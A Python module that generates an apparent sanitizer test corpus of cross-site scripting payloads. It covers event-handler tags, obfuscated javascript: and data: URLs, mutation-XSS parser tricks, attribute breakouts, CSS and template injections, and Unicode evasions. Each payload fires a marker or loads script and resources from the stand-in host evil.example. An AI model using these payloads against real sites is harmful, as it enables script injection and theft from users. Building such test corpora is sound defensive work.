"""Markup and addresses that would run a script or reach another host, wherever they are let be.

Put together from known classes: elements by handlers, spellings of schemes, breaking out of
attributes, changes of namespace that parsers understand differently (mXSS), styles, templates, and
characters that hide or turn what they stand among. Each says `window.__hit=1` or asks evil.example.
"""

from html import escape
from itertools import product
from urllib.parse import quote

RUN = "window.__hit=1"
HOST = "evil.example"
_AWAY = f"https://{HOST}"

_ELEMENTS = [
    "<img src=x {on}={run}>",
    "<svg {on}={run}>",
    "<svg><animate {on}={run} attributeName=x dur=1s>",
    "<body {on}={run}>",
    "<details open {on}={run}>x</details>",
    "<video {on}={run}><source src=x></video>",
    "<audio src=x {on}={run}>",
    "<input autofocus {on}={run}>",
    "<marquee {on}={run}>x</marquee>",
    "<p {on}={run} tabindex=0 style='animation-name:x'>x</p>",
    "<td {on}={run}>x</td>",
    "<a href=# {on}={run} autofocus>x</a>",
    "<x-y {on}={run} tabindex=0 contenteditable>x</x-y>",
]
_HANDLERS = [
    "onerror",
    "onload",
    "ontoggle",
    "onfocus",
    "onbegin",
    "onmouseover",
    "onclick",
    "onstart",
    "onpointerrawupdate",
    "onanimationstart",
    "oncontentvisibilityautostatechange",
    "onbeforetoggle",
    "OnErRoR",
]
_SPELLINGS = [
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java\rscript:{run}",
    "javascript\t:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6a;avascript:{run}",
    "&#0000106avascript:{run}",
    "java&Tab;script:{run}",
    "java&NewLine;script:{run}",
    "javascript:void({run})",
    "javascript://example.org/%0A{run}",
    "javascript:\u2028{run}",
    "\u200bjavascript:{run}",
    "\ufeffjavascript:{run}",
    "jav\u0131script:{run}",
    "ｊavascript:{run}",
    "vbscript:{run}",
    "livescript:{run}",
    "mocha:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "data:application/xhtml+xml,<x/>",
    "DATA:text/html,x",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "filesystem:https://example.org/x",
    "view-source:javascript:{run}",
    "about:blank",
    "intent:#Intent;scheme=javascript;end",
    "feed:javascript:{run}",
    "jar:javascript:{run}!/",
    "//" + HOST + "/x",
    "\\\\" + HOST + "\\x",
    "/\\" + HOST,
    "https:" + HOST,
    'https://example.org/"onmouseover="{run}',
    "https://example.org/'onmouseover='{run}",
    "https://example.org/><script>{run}</script>",
    "https://example.org/`onmouseover={run}",
    "https://example.org/\u202egpj.exe",
    "http://javascript:{run}@example.org/",
    "mailto:a@example.org?body=<script>{run}</script>",
    "https://[::1",
    "https://example.org:99999/",
]
_HOLDERS = [
    "<a href='{href}'>x</a>",
    "<iframe src='{href}'></iframe>",
    "<form action='{href}'><input type=submit autofocus></form>",
    "<svg><a xlink:href='{href}'><text>x</text></a></svg>",
    "<math href='{href}'>x</math>",
    "<object data='{href}'></object>",
    "<img src='{href}'>",
]
_CHANGES = [
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<math><annotation-xml encoding='text/html'><script>{run}</script></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg><desc><img src=x onerror={run}></desc></svg>",
    "<svg><title><style><img src=x onerror={run}></style></title></svg>",
    "<table><caption><svg><title></caption><img src=x onerror={run}>",
    "<select><template><img src=x onerror={run}></template></select>",
    "<template><script>{run}</script></template>",
    "<textarea></textarea><img src=x onerror={run}>",
    "</textarea><script>{run}</script>",
    "<title></title><script>{run}</script>",
    "<xmp></xmp><img src=x onerror={run}>",
    "<plaintext><script>{run}</script>",
    "<noembed><img title='</noembed><img src=x onerror={run}>'></noembed>",
    "<iframe><img title='</iframe><img src=x onerror={run}>'></iframe>",
    "<style><img title='</style><img src=x onerror={run}>'></style>",
    "<!--><script>{run}</script>-->",
    "<!--!><script>{run}</script>",
    "<![CDATA[><script>{run}</script>]]>",
    "<?xml version='1.0'?><script>{run}</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>{run}</script>'>]>&y;",
    "<svg><![CDATA[</svg><script>{run}</script>]]>",
    "<p><svg><style>&lt;img src=x onerror={run}&gt;</style></svg></p>",
    "<img src=x onerror={run} //",
    "<img/src=x/onerror={run}>",
    "<img\x0csrc=x\x0conerror={run}>",
    "<<script>{run}//<</script>",
    "<scr\0ipt>{run}</scr\0ipt>",
    "<script/x>{run}</script >",
    "<SCRIPT SRC=//" + HOST + "/x.js></SCRIPT>",
    "<script src=data:,{run}></script>",
    "<svg><script href=data:,{run} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg "
    "onload={run} />#x'></use></svg>",
    "<svg><set attributeName=href to=javascript:{run} /></svg>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<embed src=javascript:{run}>",
    "<object data='data:text/html,<script>parent.__hit=1</script>'></object>",
    "<base href='" + _AWAY + "/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=" + _AWAY + "'>",
    "<link rel=stylesheet href='" + _AWAY + "/x.css'>",
    "<link rel=import href='" + _AWAY + "/x'>",
    "<link rel=prefetch href='" + _AWAY + "/p'>",
    "<img src='" + _AWAY + "/i.png' srcset='" + _AWAY + "/j.png 2x'>",
    "<picture><source srcset='" + _AWAY + "/k.png'><img src=x></picture>",
    "<video poster='" + _AWAY + "/v.png' src='" + _AWAY + "/v.mp4'></video>",
    "<audio src='" + _AWAY + "/a.mp3' autoplay></audio>",
    "<table background='" + _AWAY + "/t.png'><tr><td background='" + _AWAY + "/d.png'>x</table>",
    "<input type=image src='" + _AWAY + "/n.png'>",
    "<portal src='" + _AWAY + "'></portal>",
    "<button formaction=javascript:{run} autofocus>x</button>",
    "<isindex action=javascript:{run}>",
    "<keygen autofocus onfocus={run}>",
    "<dialog open onclose={run}></dialog>",
    "<div popover id=p onbeforetoggle={run}></div><button popovertarget=p autofocus>x</button>",
]
_STYLES = [
    "background:url(javascript:{run})",
    "background:url(" + _AWAY + "/s.png)",
    "width:expression({run})",
    "behavior:url(" + _AWAY + "/x.htc)",
    "-moz-binding:url(" + _AWAY + "/x.xml#x)",
    "position:fixed;inset:0;z-index:99999",
    "@import '" + _AWAY + "/i.css'",
    "content:url(" + _AWAY + "/c.png)",
    "list-style-image:url(" + _AWAY + "/l.png)",
    "}*{background:url(" + _AWAY + "/b.png)}{",
]
_STYLED = [
    "<p style='{style}'>x</p>",
    "<style>p{{{style}}}</style>",
    "<span style='font-weight:bold;{style}'>x</span>",
]
_BREAKOUTS = [
    "'",
    '"',
    "`",
    "'>",
    '">',
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "\\u0022>",
    "&quot;>",
    "\u2028",
    "\u202e",
    "\u200b",
]
_AFTER = [
    "<script>{run}</script>",
    " onmouseover={run} x=",
    "<img src=x onerror={run}>",
    " style=animation-name:x onanimationstart={run} x=",
]
_TEMPLATES = [
    "{{constructor.constructor('{run}')()}}",
    "${{run}}",
    "#{{run}}",
    "<%={run}%>",
    "{% raw %}{run}",
    "[[${{run}}]]",
    "`${{run}}`",
    "{{7*7}}<img src=x onerror={run}>",
    "\u202e<script>{run}</script>",
    "<\u200bscript>{run}</script>",
    "\u2066<img src=x onerror={run}>\u2069",
    "＜script＞{run}＜/script＞",
    "\ufe64script\ufe65{run}",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}",
]

_SWALLOWERS = ["<plaintext", "<!--", "<xmp", "<noembed", "<iframe", "<textarea", "<title", "<style"]
_SWALLOWERS += ["<noscript", "<script", "<select", "<template", "<![cdata", "<object", "<svg><!"]


def addresses() -> list[str]:
    """Where a link must not lead, or must not be read as something else."""
    return [spelling.replace("{run}", RUN) for spelling in _SPELLINGS]


def payloads() -> list[str]:
    """Every payload once."""
    made = [
        *(element.format(on=on, run=RUN) for element, on in product(_ELEMENTS, _HANDLERS)),
        *(holder.replace("{href}", href) for holder, href in product(_HOLDERS, addresses())),
        *(change.replace("{run}", RUN) for change in _CHANGES),
        *(
            styled.format(style=style.replace("{run}", RUN))
            for styled, style in product(_STYLED, _STYLES)
        ),
        *(out + after.replace("{run}", RUN) for out, after in product(_BREAKOUTS, _AFTER)),
        *(template.replace("{run}", RUN) for template in _TEMPLATES),
        *(escape(change.replace("{run}", RUN)) for change in _CHANGES[:20]),
        *(quote(change.replace("{run}", RUN)) for change in _CHANGES[:10]),
    ]
    return sorted(dict.fromkeys(made), key=_swallows)


def _swallows(payload: str) -> bool:
    """Whether a parser may take what comes after it for a part of it: such ones are the last."""
    low = payload.lower()
    return any(sign in low for sign in _SWALLOWERS)
